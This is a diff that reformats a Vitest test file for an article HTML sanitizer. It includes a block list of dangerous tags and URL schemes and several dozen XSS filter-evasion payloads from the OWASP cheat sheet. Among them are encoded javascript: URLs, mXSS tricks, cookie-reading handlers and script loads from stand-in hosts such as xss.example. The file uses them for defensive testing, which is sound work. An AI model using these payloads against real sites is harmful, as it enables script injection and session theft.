@@ -4,10 +4,37 @@ import { describe, expect, it } from 'vitest';
 import { isAllowedIframeSrc, sanitizeArticleHtml } from './sanitize-html';
 
 const DANGEROUS_TAGS = new Set([
-  'script', 'style', 'object', 'embed', 'applet', 'base', 'meta', 'link', 'form', 'input', 'textarea',
-  'frame', 'frameset', 'template', 'noscript', 'xml', 'import',
+  'script',
+  'style',
+  'object',
+  'embed',
+  'applet',
+  'base',
+  'meta',
+  'link',
+  'form',
+  'input',
+  'textarea',
+  'frame',
+  'frameset',
+  'template',
+  'noscript',
+  'xml',
+  'import',
 ]);
-const URL_ATTRS = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'background', 'lowsrc', 'dynsrc', 'poster', 'srcdoc'];
+const URL_ATTRS = [
+  'href',
+  'src',
+  'action',
+  'formaction',
+  'xlink:href',
+  'data',
+  'background',
+  'lowsrc',
+  'dynsrc',
+  'poster',
+  'srcdoc',
+];
 const BAD_URL = /^\s*(javascript|vbscript|livescript|data:text\/html|data:image\/svg)/i;
 
 /** Every reason the sanitized HTML could still execute script, empty when it is safe. */
@@ -19,14 +46,19 @@ function problems(html: string): string[] {
     for (const el of root.querySelectorAll('*')) {
       const tag = el.tagName.toLowerCase();
       if (DANGEROUS_TAGS.has(tag)) found.push(`<${tag}>`);
-      if (tag === 'iframe' && !isAllowedIframeSrc(el.getAttribute('src'))) found.push(`iframe ${el.getAttribute('src')}`);
+      if (tag === 'iframe' && !isAllowedIframeSrc(el.getAttribute('src')))
+        found.push(`iframe ${el.getAttribute('src')}`);
       for (const attr of el.attributes) {
         const name = attr.name.toLowerCase();
         if (name.startsWith('on')) found.push(`${tag}[${name}]`);
         // Browsers ignore whitespace and control characters inside a URL scheme ('jav\tascript:').
         const compact = [...attr.value].filter((ch) => ch.charCodeAt(0) > 0x20).join('');
         if (URL_ATTRS.includes(name) && BAD_URL.test(compact)) found.push(`${tag}[${name}=${attr.value}]`);
-        if (name === 'style' && /expression\s*\(|javascript:|behavior\s*:|-moz-binding/i.test(attr.value.replace(/\/\*[\s\S]*?\*\//g, ''))) found.push(`${tag}[style]`);
+        if (
+          name === 'style' &&
+          /expression\s*\(|javascript:|behavior\s*:|-moz-binding/i.test(attr.value.replace(/\/\*[\s\S]*?\*\//g, ''))
+        )
+          found.push(`${tag}[style]`);
         if (name === 'srcdoc') found.push(`${tag}[srcdoc]`);
       }
       if ((el as HTMLTemplateElement).content) walk((el as HTMLTemplateElement).content);
@@ -39,10 +71,13 @@ function problems(html: string): string[] {
 // OWASP XSS Filter Evasion Cheat Sheet (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html).
 const VECTORS: [string, string][] = [
   ['basic script', '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>'],
-  ['polyglot', 'javascript:/*--></title></style></textarea></script></xmp><svg/onload=\'+/"/+/onmouseover=1/+/[*/[]/+alert(1)//\'>'],
+  [
+    'polyglot',
+    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
+  ],
   ['img javascript: src', '<IMG SRC="javascript:alert(\'XSS\');">'],
-  ['no quotes, no semicolon', '<IMG SRC=javascript:alert(\'XSS\')>'],
-  ['case insensitive', '<IMG SRC=JaVaScRiPt:alert(\'XSS\')>'],
+  ['no quotes, no semicolon', "<IMG SRC=javascript:alert('XSS')>"],
+  ['case insensitive', "<IMG SRC=JaVaScRiPt:alert('XSS')>"],
   ['html entities', '<IMG SRC=javascript:alert(&quot;XSS&quot;)>'],
   ['grave accent', '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>'],
   ['malformed A tag', '<a onmouseover="alert(document.cookie)">xxs link</a>'],
@@ -51,10 +86,22 @@ const VECTORS: [string, string][] = [
   ['default src onerror', '<IMG SRC=# onmouseover="alert(\'xxs\')">'],
   ['empty src onerror', '<IMG SRC= onmouseover="alert(\'xxs\')">'],
   ['onerror alert', '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>'],
-  ['onerror encoded', '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">'],
-  ['decimal entities', '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>'],
-  ['decimal no semicolons', '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>'],
-  ['hex entities', '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>'],
+  [
+    'onerror encoded',
+    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
+  ],
+  [
+    'decimal entities',
+    '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
+  ],
+  [
+    'decimal no semicolons',
+    '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
+  ],
+  [
+    'hex entities',
+    '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
+  ],
   ['embedded tab', '<IMG SRC="jav\tascript:alert(\'XSS\');">'],
   ['encoded tab', '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">'],
   ['encoded newline', '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">'],
@@ -74,13 +121,16 @@ const VECTORS: [string, string][] = [
   ['img lowsrc', '<IMG LOWSRC="javascript:alert(\'XSS\')">'],
   ['list-style-image', '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>'],
   ['vbscript in image', '<IMG SRC=\'vbscript:msgbox("XSS")\'>'],
-  ['svg object tag', '<svg/onload=alert(\'XSS\')>'],
-  ['body onload', '<BODY ONLOAD=alert(\'XSS\')>'],
+  ['svg object tag', "<svg/onload=alert('XSS')>"],
+  ['body onload', "<BODY ONLOAD=alert('XSS')>"],
   ['bgsound', '<BGSOUND SRC="javascript:alert(\'XSS\');">'],
   ['link stylesheet', '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">'],
-  ['remote style sheet', '<STYLE>@import\'http://xss.example/xss.css\';</STYLE>'],
+  ['remote style sheet', "<STYLE>@import'http://xss.example/xss.css';</STYLE>"],
   ['meta refresh', '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">'],
-  ['meta refresh data url', '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">'],
+  [
+    'meta refresh data url',
+    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
+  ],
   ['iframe javascript', '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>'],
   ['iframe event', '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>'],
   ['iframe foreign host', '<iframe src="https://evil.example/embed"></iframe>'],
@@ -93,13 +143,19 @@ const VECTORS: [string, string][] = [
   ['img style expression', '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">'],
   ['base tag', '<BASE HREF="javascript:alert(\'XSS\');//">'],
   ['object tag', '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>'],
-  ['embed svg', '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>'],
+  [
+    'embed svg',
+    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
+  ],
   ['xml data island', '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>'],
   ['a href javascript entity-split', '<a href="jav&#x61;script:alert(1)">x</a>'],
   ['a href data html', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
   ['svg animate xlink', '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>'],
   ['svg set attribute', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>'],
-  ['math mXSS', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'],
+  [
+    'math mXSS',
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  ],
   ['noscript mXSS', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
   ['form formaction', '<form><button formaction="javascript:alert(1)">x</button></form>'],
   ['details ontoggle', '<details open ontoggle=alert(1)>'],
@@ -127,7 +183,16 @@ describe('sanitizeArticleHtml keeps article content', () => {
       '<img src="https://cdn.example/a.png" alt="A"><pre><code class="language-js">x</code></pre>' +
       '<table><tr><td>c</td></tr></table><div data-target="#p" aria-controls="p" role="tab">t</div>';
     const out = sanitizeArticleHtml(html);
-    for (const piece of ['<h2 class="x">', '<strong>b</strong>', '<li>1</li>', 'language-js', '<td>c</td>', 'data-target="#p"', 'aria-controls="p"', 'role="tab"']) {
+    for (const piece of [
+      '<h2 class="x">',
+      '<strong>b</strong>',
+      '<li>1</li>',
+      'language-js',
+      '<td>c</td>',
+      'data-target="#p"',
+      'aria-controls="p"',
+      'role="tab"',
+    ]) {
       expect(out).toContain(piece);
     }
     expect(out).toMatch(/<img[^>]+loading="lazy"/);
@@ -146,7 +211,9 @@ describe('sanitizeArticleHtml keeps article content', () => {
   });
 
   it('opens external links in a new tab without opener access', () => {
-    const out = sanitizeArticleHtml('<a href="https://example.org/x">ext</a><a href="/sobre">int</a><a href="/a" target="_top">t</a>');
+    const out = sanitizeArticleHtml(
+      '<a href="https://example.org/x">ext</a><a href="/sobre">int</a><a href="/a" target="_top">t</a>',
+    );
     const t = document.createElement('template');
     t.innerHTML = out;
     const [ext, int, top] = t.content.querySelectorAll('a');
